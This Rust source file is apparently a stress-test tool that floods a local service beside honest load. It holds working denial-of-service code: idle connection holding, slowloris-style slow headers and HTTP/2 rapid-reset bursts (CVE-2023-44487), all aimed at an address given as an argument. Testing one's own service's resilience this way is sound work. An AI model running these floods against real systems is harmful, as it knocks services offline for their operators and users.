//! Attacks a service on this machine until it is stopped: `flood idle|heads|resets ADDRESS CONNECTIONS`.
//!
//! `make floods` runs it beside honest load. A connection that the service ends is opened anew.

use std::error::Error;
use std::net::SocketAddr;
use std::time::Duration;

use http::Request;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

type Failure = Box<dyn Error + Send + Sync>;

const USAGE: &str = "usage: flood idle|heads|resets ADDRESS CONNECTIONS";
/// The pause between two bytes of a slow head.
const TRICKLE: Duration = Duration::from_secs(1);
/// The pause after a connection that was ended or refused.
const AGAIN: Duration = Duration::from_millis(100);
/// Streams that are opened and reset in one go: more than any service puts up with.
const BURST: usize = 200;

#[derive(Clone, Copy)]
enum Attack {
    /// One request, and then silence.
    Idle,
    /// Heads that never end.
    Heads,
    /// Requests that are taken back at once (CVE-2023-44487).
    Resets,
}

#[tokio::main]
async fn main() -> Result<(), Failure> {
    let mut arguments = std::env::args().skip(1);
    let attack = match arguments.next().as_deref() {
        Some("idle") => Attack::Idle,
        Some("heads") => Attack::Heads,
        Some("resets") => Attack::Resets,
        _ => return Err(USAGE.into()),
    };
    let address: SocketAddr = arguments.next().ok_or(USAGE)?.parse()?;
    let connections: usize = arguments.next().ok_or(USAGE)?.parse()?;
    rlimit::increase_nofile_limit(u64::MAX)?;
    for number in 0..connections {
        tokio::spawn(async move {
            loop {
                // Whatever ends a connection, there is another.
                let _ = one(attack, address).await;
                sleep(AGAIN).await;
            }
        });
        // The backlog of the listener is not what is to be flooded.
        if number % 100 == 99 {
            sleep(Duration::from_millis(10)).await;
        }
    }
    std::future::pending().await
}

/// One connection, for as long as the service lets it.
async fn one(attack: Attack, address: SocketAddr) -> Result<(), Failure> {
    let mut stream = TcpStream::connect(address).await?;
    match attack {
        Attack::Idle => {
            stream.write_all(b"GET /health/live HTTP/1.1\r\nHost: a.example\r\n\r\n").await?;
            while stream.read(&mut [0; 1024]).await? > 0 {}
            Ok(())
        }
        Attack::Heads => {
            stream.write_all(b"GET /health/live HTTP/1.1\r\nHost: a.example\r\nX-Slow: ").await?;
            loop {
                sleep(TRICKLE).await;
                stream.write_all(b"a").await?;
            }
        }
        Attack::Resets => resets(stream).await,
    }
}

async fn resets(stream: TcpStream) -> Result<(), Failure> {
    let (mut sender, connection) = h2::client::handshake(stream).await?;
    let driver = tokio::spawn(connection);
    while !driver.is_finished() {
        for _ in 0..BURST {
            let request = Request::get("http://a.example/api/v1/auth/me").body(())?;
            sender = sender.ready().await?;
            let (_, mut stream) = sender.send_request(request, true)?;
            stream.send_reset(h2::Reason::CANCEL);
        }
        tokio::task::yield_now().await;
    }
    Ok(())
}
